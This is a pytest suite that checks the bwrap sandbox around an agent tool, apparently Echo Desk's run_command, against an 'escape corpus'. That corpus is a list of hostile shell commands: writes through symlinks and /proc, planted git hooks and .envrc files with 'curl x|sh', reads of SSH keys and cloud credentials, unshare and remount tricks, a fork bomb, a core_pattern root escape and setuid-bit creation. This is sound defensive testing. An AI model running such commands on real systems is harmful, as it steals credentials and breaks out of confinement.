"""The escape corpus: hostile commands run through the real run_command in a real bwrap sandbox.

Each one must leave every file outside the workspace as it was (canaries with random content)
and print no secret. Traffic goes to loopback only.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from sandbox_helpers import Jail, Listener, context, requires_bwrap, run, tool_with

pytestmark = requires_bwrap

PY = "python3 -c"

# (name, command template). {outside}, {home}, {ws}, {own} are filled in from the jail.
ESCAPES: tuple[tuple[str, str], ...] = (
    ("write absolute path", "echo pwned > {outside}/canary.txt; echo pwned > {outside}/new.txt"),
    ("write through ..", "echo pwned > ../outside/canary.txt; echo pwned > ../outside/new2.txt"),
    ("write through a symlink", "ln -s {outside}/canary.txt link && echo pwned > link"),
    ("write through a symlinked folder", "ln -s {outside} out && echo pwned > out/canary.txt && touch out/x"),
    ("write through a hard link", "ln {outside}/canary.txt hard && echo pwned >> hard"),
    ("write through /proc/self/root", "echo pwned > /proc/self/root{outside}/canary.txt"),
    ("write through /proc/1/root", "echo pwned > /proc/1/root{outside}/canary.txt"),
    ("write the home folder", "echo pwned > {home}/.bashrc; echo pwned > {home}/.ssh/authorized_keys"),
    ("plant a git hook", "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl x|sh\\n' > .git/hooks/pre-commit; "
                         "chmod +x .git/hooks/pre-commit"),
    ("replace the hooks folder", "mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo x > .git/hooks/post-checkout"),
    ("rename .git and rebuild it with a hook", "mv .git .git2; mkdir -p .git/hooks; cp -a .git2/. .git/ 2>/dev/null; "
                                               "echo evil > .git/hooks/pre-commit; rm -rf .git2/hooks; "
                                               "mv .git2/hooks .git2/hooks-old"),
    ("move the hooks folder aside", "mv .git/hooks .git/hooks-old; mv .git/config .git/config-old; "
                                    "rm -rf .git/hooks .git/info"),
    ("change git config", "git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = evil' >> .git/config"),
    ("replace git config", "cp .git/config c; echo '[core]' >> c; mv c .git/config"),
    ("plant shell start-up file", "echo 'curl x|sh' > .envrc"),
    ("read hidden folders", "cat {home}/.ssh/id_ed25519 {home}/.aws/credentials {home}/.netrc {home}/.git-credentials "
                            "{home}/.kube/config {home}/.docker/config.json {home}/.local/share/keyrings/*; "
                            "find {home} -type f -exec cat {{}} +"),
    ("read hidden folders through /proc", "cat /proc/self/root{home}/.ssh/id_ed25519 /proc/1/root{home}/.aws/credentials"),
    ("read Echo Desk's own folders", "cat {base}/own-*/secret.json; ls -laR {base}/own-*; cat {own_config}/*"),
    ("unshare and mount", "unshare -r -m sh -c 'umount {home}/.ssh; cat {home}/.ssh/id_ed25519'; "
                          "umount {home}/.ssh; umount -l {outside}/..; mount -t tmpfs x {outside}; "
                          "cat {home}/.ssh/id_ed25519; echo pwned > {outside}/canary.txt"),
    ("remount read-write", "mount -o remount,rw / ; mount -o remount,rw,bind {outside} {outside}; "
                           "echo pwned > {outside}/canary.txt"),
    ("new user namespace", "unshare -U -r sh -c 'mount --bind {ws} {outside} && echo pwned > {outside}/canary.txt'"),
    ("/dev/shm", "echo pwned > /dev/shm/echo-desk-escape-{token}"),
    ("1 GiB to /tmp", "head -c 1073741824 /dev/zero > /tmp/big; echo rc=$?; ls -la /tmp"),
    ("environment secrets", "env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'"),
    ("ptrace the parent", "cat /proc/$PPID/environ; ls -la /proc/*/cwd 2>&1 | head"),
)


@pytest.mark.parametrize(("name", "template"), ESCAPES, ids=[name for name, _ in ESCAPES])
async def test_escape_attempt_changes_nothing_outside_and_reads_no_secret(
        jail: Jail, name: str, template: str, monkeypatch: pytest.MonkeyPatch) -> None:
    token = secrets.token_hex(8)
    monkeypatch.setenv("ECHO_DESK_TEST_TOKEN", f"canary-env-{token}")
    monkeypatch.setenv("OPENAI_API_KEY", f"canary-env-{token}")
    command = template.format(outside=jail.outside, home=jail.home, ws=jail.workspace,
                              base=jail.base, own_config=jail.own_dirs[0], token=token)
    before = jail.snapshot()
    # As if the person approved it (a command naming a protected folder always asks): what is
    # tested is what the sandbox lets through once a command runs.
    ctx = context(jail.workspace, approved=True)
    result = await run(tool_with(), {"command": command, "timeout_seconds": 60}, ctx)
    assert result.success, result.error
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert jail.snapshot() == before, name
    assert not (jail.workspace / ".envrc").exists()  # a planted start-up file does not stay
    assert jail.leaked(result.output) == [], name
    assert f"canary-env-{token}" not in result.output
    assert _left_on_host(token) == []


async def test_with_the_home_folder_as_the_workspace_every_listed_secret_stays_hidden(jail: Jail) -> None:
    """A secret inside a protected folder (``~/.config/git/credentials`` in ``~/.config/git/``):
    the folder is made read-only after the workspace is bound, and a read-only mount is taken
    from the disk as it is, not from the sandbox's view, so it must not bring the secret back."""
    (jail.home / ".config" / "git" / "config").write_text("[core]\n\tautocrlf = false\n")
    command = "cat " + " ".join(f"'{p}'" for p in jail.secrets if jail.home in p.parents)
    result = await run(tool_with(), {"command": command}, context(jail.home, approved=True))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert jail.leaked(result.output) == [], result.output


async def test_the_sessions_runtime_folder_is_hidden(jail: Jail) -> None:
    """podman's registry logins live in ``$XDG_RUNTIME_DIR/containers/auth.json``; the folder is
    hidden whole (an empty one in its place)."""
    run_dir = jail.base / "run"
    command = f"cat {run_dir}/containers/auth.json; ls -A {run_dir} | wc -l"
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.success and jail.leaked(result.output) == [], result.output
    assert "No such file or directory" in result.output and result.output.strip().endswith("0")


def _left_on_host(token: str) -> list[str]:
    """Files the /dev/shm and /tmp attempts would have left on the host, had they got out."""
    found = [p for p in (Path(f"/dev/shm/echo-desk-escape-{token}"),) if p.exists()]
    big = Path("/tmp/big")
    if big.exists() and big.stat().st_size >= 1 << 30:
        found.append(big)
    return [str(p) for p in found]


async def test_a_repository_without_a_hooks_folder_gets_no_planted_hook(jail: Jail) -> None:
    (jail.workspace / ".git" / "hooks").rename(jail.base / "hooks-moved-away")
    command = "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; ls .git/hooks"
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.success
    assert not (jail.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "Read-only file system" in result.output


async def test_the_workspace_itself_stays_writable_and_git_works(jail: Jail) -> None:
    command = ("echo new > made.txt && mkdir -p sub/deeper && echo x > sub/deeper/f && "
               "git add -A && git -c user.name=t -c user.email=t@e commit -qm test && git log --oneline | wc -l")
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    assert (jail.workspace / "made.txt").read_text() == "new\n"
    assert result.output.splitlines()[1].strip() == "1"


async def test_a_write_outside_is_reported_as_blocked_by_the_sandbox(jail: Jail) -> None:
    result = await run(tool_with(), {"command": f"echo x > {jail.outside}/canary.txt"}, context(jail.workspace))
    assert result.metadata["exit_code"] != 0
    assert result.metadata["sandbox"]["blocked"] == ["write_outside"]
    assert "outside_sandbox: true" in result.output


async def test_tmp_is_bounded(jail: Jail) -> None:
    result = await run(tool_with(), {"command": "head -c 1073741824 /dev/zero > /tmp/big; echo rc=$?; "
                                                "stat -c %s /tmp/big"}, context(jail.workspace))
    lines = result.output.splitlines()
    assert "rc=0" not in lines
    assert int(lines[-1]) < 1 << 30


async def test_only_the_sandboxs_own_loopback_is_seen(jail: Jail) -> None:
    result = await run(tool_with(), {"command": "cat /proc/net/dev"}, context(jail.workspace))
    interfaces = [line.split(":")[0].strip() for line in result.output.splitlines()[1:] if ":" in line]
    assert interfaces == ["lo"], result.output


@pytest.fixture
def tcp_listener() -> Iterator[Listener]:
    listener = Listener.bound(socket.AF_INET, ("127.0.0.1", 0))
    yield listener
    listener.close()


async def test_a_loopback_tcp_service_of_the_host_is_unreachable(jail: Jail, tcp_listener: Listener) -> None:
    port = tcp_listener.sock.getsockname()[1]
    probe = (f"{PY} \"import socket; s=socket.create_connection(('127.0.0.1', {port}), 2); print('CONNECTED')\"; "
             f"echo > /dev/tcp/127.0.0.1/{port} 2>&1; true")
    result = await run(tool_with(), {"command": probe}, context(jail.workspace))
    assert "CONNECTED" not in result.output
    assert "Connection refused" in result.output
    assert tcp_listener.accepted == 0


async def test_a_unix_socket_of_the_host_is_unreachable(jail: Jail) -> None:
    path = jail.outside / "test.sock"
    listener = Listener.bound(socket.AF_UNIX, str(path))
    try:
        probe = (f"{PY} \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('CONNECTED')\"; "
                 f"{PY} \"import socket; a, b = socket.socketpair(); a.send(b'pair-ok'); print(b.recv(9).decode())\"")
        result = await run(tool_with(), {"command": probe}, context(jail.workspace))
    finally:
        listener.close()
    assert "CONNECTED" not in result.output and "PermissionError" in result.output
    assert "pair-ok" in result.output  # socketpair (asyncio, multiprocessing) keeps working
    assert listener.accepted == 0


async def test_only_internet_and_netlink_sockets_can_be_made(jail: Jail) -> None:
    """An allow-list of socket families: vsock (the host's virtual-machine sockets, which no network
    namespace separates), raw packets, the kernel's crypto sockets and any family added later are
    refused; the families a command needs (TCP/UDP through the proxy, netlink for its own
    interfaces) still open."""
    families = {"AF_VSOCK": 40, "AF_PACKET": 17, "AF_ALG": 38, "AF_BLUETOOTH": 31, "AF_UNIX": 1,
                "unknown-45": 45, "AF_INET": 2, "AF_INET6": 10, "AF_NETLINK": 16}
    (jail.workspace / "families.py").write_text(
        "import socket\n"
        f"for name, family in {families!r}.items():\n"
        "    kind = socket.SOCK_RAW if family in (16, 17) else socket.SOCK_SEQPACKET if family == 38 else 1\n"
        "    try:\n"
        "        socket.socket(family, kind).close()\n"
        "        print(name, 'opened')\n"
        "    except PermissionError:\n"
        "        print(name, 'refused')\n"
        "    except OSError as exc:\n"
        "        print(name, 'failed', exc.errno)\n")
    result = await run(tool_with(), {"command": "python3 families.py"}, context(jail.workspace))
    said = dict(line.split(" ", 1) for line in result.output.splitlines() if line.split(" ", 1)[0] in families)
    assert said == {**dict.fromkeys(["AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_BLUETOOTH", "AF_UNIX", "unknown-45"],
                                    "refused"),
                    **dict.fromkeys(["AF_INET", "AF_INET6", "AF_NETLINK"], "opened")}, result.output


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and state not in ("Z", "X"):
            found.append(int(entry))
    return found


def _wait_none(marker: str, within: float) -> list[int]:
    deadline = time.monotonic() + within
    while (left := _processes_with(marker)) and time.monotonic() < deadline:
        time.sleep(0.02)  # polling a condition with a deadline
    return left


async def test_a_grandchild_that_outlives_the_command_is_killed(jail: Jail) -> None:
    marker = f"echo-desk-orphan-{secrets.token_hex(6)}"
    command = (f"setsid {PY} 'import time; time.sleep(999)' {marker} & "
               f"nohup {PY} 'import time; time.sleep(999)' {marker} >/dev/null 2>&1 & echo started")
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.success and "started" in result.output
    assert _wait_none(marker, 3.0) == []


async def test_timeout_kills_everything_in_the_sandbox(jail: Jail) -> None:
    marker = f"echo-desk-storm-{secrets.token_hex(6)}"
    command = f"for i in $(seq 50); do setsid {PY} 'import time; time.sleep(999)' {marker} & done; sleep 999"
    started = time.monotonic()
    result = await run(tool_with(), {"command": command, "timeout_seconds": 2}, context(jail.workspace))
    assert result.error_kind is not None and result.error_kind.value == "timeout"
    assert time.monotonic() - started < 8
    assert _wait_none(marker, 3.0) == []


_BOMB_RUNNER = """
import subprocess, sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from echo_desk import sandbox
ws = Path(sys.argv[2])
launch = sandbox.prepare(sandbox.SandboxSpec(writable=(ws,), cwd=ws, max_processes=int(sys.argv[3])),
                         ["/bin/sh", "-c", "b() { echo >> spawned; b & b & sleep 5; }; b & sleep 2; echo survived"], sandbox.availability().bwrap)
proc = subprocess.Popen(launch.argv, pass_fds=launch.pass_fds, env=launch.env, stdout=subprocess.DEVNULL,
                        stderr=subprocess.PIPE, text=True)
launch.close()
print("launched", flush=True)
_, err = proc.communicate(timeout=60)
print(f"sandboxed command ended with {proc.returncode}; its stderr ends: {err[-1500:]!r}", file=sys.stderr)
sys.exit(proc.returncode)
"""
NOBODY = 65534


def _count_uid(uid: int) -> int:
    found = 0
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                status = Path(f"/proc/{entry}/status").read_text()
            except OSError:
                continue
            uids = next((line.split()[1:] for line in status.splitlines() if line.startswith("Uid:")), [])
            if uids and int(uids[0]) == uid:
                found += 1
    return found


def _as_nobody(*argv: str) -> list[str]:
    return ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *argv]


def _python_nobody_can_run() -> str | None:
    """An interpreter the user 'nobody' may execute. The venv's Python often lives under a home
    folder only its owner may enter (pyenv under /root), so the system's Python is tried too."""
    for candidate in (os.path.realpath(sys.executable), "/usr/bin/python3"):
        if Path(candidate).exists() and subprocess.run(_as_nobody(candidate, "-I", "-c", "pass"),
                                                       capture_output=True, timeout=30).returncode == 0:
            return candidate
    return None


def _sandbox_package_for_nobody(base: Path) -> Path:
    """A copy of ``echo_desk.sandbox`` that 'nobody' can read: the checkout may sit in a folder
    only its owner may enter. The package is a leaf that imports only the public tool contract,
    which depends on nothing of ours but the lazy-name loader both use (import-linter
    contracts), so the two packages, that module and an empty ``echo_desk/__init__.py`` are
    complete."""
    import echo_desk.lazy_names
    import echo_desk.sandbox
    import echo_desk.tools

    root = base / "nobody-lib"
    package = root / "echo_desk"
    for leaf in (echo_desk.sandbox, echo_desk.tools):
        shutil.copytree(Path(leaf.__file__).parent, package / leaf.__name__.rsplit(".", 1)[1],
                        ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(echo_desk.lazy_names.__file__, package / "lazy_names.py")
    (package / "__init__.py").write_text("")
    for path in (root, *root.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return root


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="needs setpriv (util-linux) to run as an ordinary user")
def test_a_fork_bomb_of_an_ordinary_user_is_bounded_and_ends_with_the_command(jail: Jail) -> None:
    """Run as an ordinary user (as root the kernel ignores RLIMIT_NPROC: there only the end of
    the command bounds it). The limit is set low so the bomb cannot hurt this shared machine."""
    if _count_uid(NOBODY):
        pytest.skip("processes of 'nobody' already run here; the count would be wrong")
    python = _python_nobody_can_run()
    if python is None:
        pytest.skip("no Python interpreter here that the user 'nobody' may execute")
    workspace = jail.base / "nobody-ws"
    workspace.mkdir()
    os.chown(workspace, NOBODY, NOBODY)
    jail.base.chmod(0o755)
    library = _sandbox_package_for_nobody(jail.base)
    runner = subprocess.Popen(_as_nobody(python, "-I", "-c", _BOMB_RUNNER, str(library), str(workspace), "48"),
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    peak = 0
    deadline = time.monotonic() + 60
    while runner.poll() is None and time.monotonic() < deadline:
        peak = max(peak, _count_uid(NOBODY))
        time.sleep(0.02)  # sampling the process count until the runner ends, with a deadline
    # The command ends on its own (its shell may fail to fork 'sleep' under the limit: exit 2).
    assert runner.poll() is not None, "the bombed command did not end"
    out, err = runner.communicate()
    assert "launched" in out, f"the runner failed before the sandbox started: {err[-2000:]}"
    # Under load the bomb can rise and collapse between two samples (at the limit even 'sleep' cannot
    # fork), so that it spread is read from its own tally and that the limit stopped it from the shell.
    spawned = len((workspace / "spawned").read_bytes())
    assert spawned > 10, (spawned, err[-2000:])
    assert "Cannot fork" in err, err[-2000:]
    assert peak <= 48 + 8, (peak, err[-2000:])  # never past the limit (+ bwrap, init, setpriv, runner)
    deadline = time.monotonic() + 5
    while _count_uid(NOBODY) and time.monotonic() < deadline:
        time.sleep(0.02)  # polling a condition with a deadline
    assert _count_uid(NOBODY) == 0


#: keyctl(2) operations (linux/keyctl.h) and the special keyring ids.
_KEYCTL_JOIN_SESSION_KEYRING, _KEYCTL_REVOKE, _KEYCTL_READ = 1, 3, 11
_KEY_SPEC_SESSION_KEYRING = -3
_KEY_CALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl


@pytest.mark.skipif(os.uname().machine not in _KEY_CALLS, reason="key system calls known for x86-64 and arm64")
async def test_the_session_keyring_echo_desk_runs_in_is_out_of_reach(jail: Jail) -> None:
    """The kernel keeps a session keyring per login (pam_keyinit): Kerberos tickets, network
    file system passwords, cached disk passphrases. bwrap's own namespaces do not replace it: a
    command inherits Echo Desk's, and could read what is in it and add to it (it outlives the
    command: Echo Desk's next commands, sandboxed or not, inherit it)."""
    import ctypes

    add_key, keyctl = _KEY_CALLS[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    # A keyring of this test's own (this thread, which spawns the sandbox), holding a secret.
    assert libc.syscall(keyctl, _KEYCTL_JOIN_SESSION_KEYRING, None) > 0
    value = f"canary-{secrets.token_hex(16)}".encode()
    key = libc.syscall(add_key, b"user", b"echo-desk-test", value, len(value), _KEY_SPEC_SESSION_KEYRING)
    assert key > 0
    try:
        probe = (f"{PY} \"import ctypes; c = ctypes.CDLL(None, use_errno=True); b = ctypes.create_string_buffer(256); "
                 f"n = c.syscall({keyctl}, {_KEYCTL_READ}, {key}, b, 256); print('READ', n, b.raw[:max(n, 0)]); "
                 f"print('ADDED', c.syscall({add_key}, b'user', b'planted', b'x', 1, {_KEY_SPEC_SESSION_KEYRING}))\"")
        result = await run(tool_with(), {"command": probe}, context(jail.workspace))
        found = ctypes.create_string_buffer(4096)
        held = libc.syscall(keyctl, _KEYCTL_READ, _KEY_SPEC_SESSION_KEYRING, found, 4096)
    finally:
        libc.syscall(keyctl, _KEYCTL_REVOKE, key)
    assert "READ -1" in result.output, result.output
    assert value.decode() not in result.output
    assert "ADDED -1" in result.output, result.output
    assert held == 4  # the keyring holds the test's own key only


@pytest.fixture
def core_pattern() -> Iterator[Path]:
    """The kernel's core_pattern, as it was, is put back whatever the test did to it."""
    path = Path("/proc/sys/kernel/core_pattern")
    was = path.read_bytes()
    yield path
    if path.read_bytes() != was:
        path.write_bytes(was)


@pytest.mark.skipif(os.geteuid() != 0, reason="only global root may write the kernel's settings (/proc/sys)")
async def test_the_kernels_settings_are_read_only_for_a_command_of_root(jail: Jail, core_pattern: Path) -> None:
    """Run as root, the sandbox's uid 0 is the global root: without a read-only /proc/sys, a
    command sets core_pattern to a pipe into a script of its own, and the kernel runs that script
    as root outside every namespace for the next program that crashes (proven once by hand; the
    test does not crash anything: the setting must simply not change)."""
    script = jail.workspace / "on-crash.sh"
    command = (f"printf '#!/bin/sh\\necho ran\\n' > {script}; chmod +x {script}; "
               f"echo '|{script}' > /proc/sys/kernel/core_pattern; echo rc=$?")
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert str(script) not in core_pattern.read_text(), result.output  # noqa: ASYNC240 (a tiny kernel file)
    assert "rc=0" not in result.output, result.output


def _replant(marker: str) -> tuple[str, str]:
    """Background loops that plant a start-up file again and again while the sandbox ends (the
    command ends by itself after 2 s, or is killed at its timeout): the loop's text, and the
    command. ``marker`` (a no-op word in the loop) tells this test's loops from those of another
    run of the same test on the machine (another worktree, another CI job)."""
    loop = f": {marker}; echo evil > .envrc.$0; mv .envrc.$0 .envrc"
    return loop, ("exec </dev/null >/dev/null 2>&1; for i in 1 2 3 4 5 6 7 8; do "
                  f"sh -c 'while :; do {loop}; done' $i & done; sleep 2")


@pytest.mark.parametrize("timeout", [10, 1], ids=["ended", "timed out"])
async def test_what_background_loops_plant_while_the_sandbox_ends_does_not_stay(jail: Jail, timeout: int) -> None:
    """When the call returns, no process of the sandbox is left to plant after the check: so what
    the check left is what stays (no wait needed to see it)."""
    loop, command = _replant(f"echo-desk-replant-{secrets.token_hex(6)}")
    params: dict[str, object] = {"command": command, "timeout_seconds": timeout}
    for _attempt in range(6):  # a race: one try alone may miss it
        await run(tool_with(), params, context(jail.workspace))
        assert _processes_running(loop) == [], _command_lines(_processes_running(loop))
        assert not (jail.workspace / ".envrc").exists()


def _command_lines(pids: list[int]) -> list[str]:
    """What each process runs (for a failure's message)."""
    lines = []
    for pid in pids:
        try:
            lines.append(Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[-200:])
        except OSError:
            lines.append(f"{pid} (ended meanwhile)")
    return lines


def _processes_running(text: str) -> list[int]:
    """The live processes whose command line holds ``text``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue  # it ended meanwhile
            if text in cmdline and state != "Z":  # a zombie runs nothing
                found.append(int(entry.name))
    return found


#: Every way a program gives a file its mode: chmod (coreutils: fchmodat), fchmod, and creating it
#: with the mode (open, openat, creat, mknod), the set-user-ID and the set-group-ID bit each.
_SET_ID = (
    "cp /usr/bin/id chmod-u && chmod 4755 chmod-u; cp /usr/bin/id chmod-g && chmod g+s chmod-g; "
    "install -m 4755 /usr/bin/id install-u; "
    f"{PY} \"import os; "
    "fd = os.open('fchmod-u', os.O_WRONLY | os.O_CREAT, 0o755); os.fchmod(fd, 0o4755); os.close(fd)\"; "
    f"{PY} \"import os; os.close(os.open('open-u', os.O_WRONLY | os.O_CREAT, 0o4755))\"; "
    f"{PY} \"import os; os.close(os.open('open-g', os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o2755))\"; "
    f"{PY} \"import os; os.mknod('mknod-u', 0o100000 | 0o4755)\"; "
    f"{PY} \"import ctypes; ctypes.CDLL(None).creat(b'creat-u', 0o4755)\"; "
    # What must keep working: ordinary modes, and open without O_CREAT whatever its mode argument.
    "echo ok > plain && chmod 755 plain && chmod u-x,g+w plain; "
    f"{PY} \"import ctypes, os; c = ctypes.CDLL(None); fd = c.syscall(257, -100, b'plain', os.O_RDONLY, 0o4755); "
    "print('OPENED' if fd >= 0 else 'REFUSED')\"; ls -l"
)


async def test_no_file_gets_a_set_user_or_group_id_bit(jail: Jail) -> None:
    """A set-user-ID file the command made runs as its owner for whoever starts it, outside the
    sandbox: the person's account for any other local user, and root for everyone when Echo Desk
    runs as root (the sandbox's files belong to the person, or to root)."""
    ws = jail.workspace
    result = await run(tool_with(), {"command": _SET_ID}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    with_bits = sorted(p.name for p in ws.iterdir() if p.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID))
    assert with_bits == [], result.output
    assert (ws / "plain").stat().st_mode & 0o7777 == 0o675, result.output
    if os.uname().machine == "x86_64":  # (the openat number above is x86-64's)
        assert "OPENED" in result.output, result.output


#: Deeper than Python's recursion limit (1000), within the length a path may have (4096).
_DEEP = "/".join(["a"] * 1100)


async def test_a_deep_tree_does_not_stop_the_check_before_a_hook(jail: Jail) -> None:
    """The check after a command handles what it found one by one, in path order: a tree of the
    command's own deeper than Python's recursion limit in ``.vscode/`` made it fail there, and a
    hook planted in a repository whose path sorts after it stayed."""
    ws = jail.workspace
    command = (f"mkdir -p .vscode/{_DEEP} && echo '{{}}' > .vscode/{_DEEP}/tasks.json && git init -q zz && "
               "printf '#!/bin/sh\\necho ran\\n' > zz/.git/hooks/pre-commit && chmod +x zz/.git/hooks/pre-commit")
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert not (ws / "zz/.git/hooks/pre-commit").exists(), result.output
    assert not (ws / ".vscode").exists(), result.output
    planted = [p["path"] for p in result.metadata["sandbox"]["planted"]]
    assert ".vscode" in planted and "zz/.git/hooks" in planted, result.output
    # What was put aside, removed here: the jail's rmtree recurses.
    removing = await asyncio.create_subprocess_exec("rm", "-rf", str(jail.own_dirs[1] / "put-aside"))
    assert await removing.wait() == 0


async def test_what_is_said_about_a_plant_in_a_folder_whose_name_is_not_utf8_can_be_stored(jail: Jail) -> None:
    """A folder name of arbitrary bytes (``z\\xff``) came back in the result's metadata as a lone
    surrogate, which no UTF-8 text store takes (the conversation's, the audit log's): the bytes
    are written as escapes instead."""
    ws = jail.workspace
    command = "git init -q $'z\\xff' && printf '#!/bin/sh\\necho ran\\n' > $'z\\xff'/.git/hooks/pre-commit"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert not (ws / os.fsdecode(b"z\xff") / ".git/hooks/pre-commit").exists()
    stored = json.dumps(result.metadata, ensure_ascii=False).encode()  # what the stores do
    assert b"z\\\\xff/.git/hooks" in stored, stored
    result.output.encode()
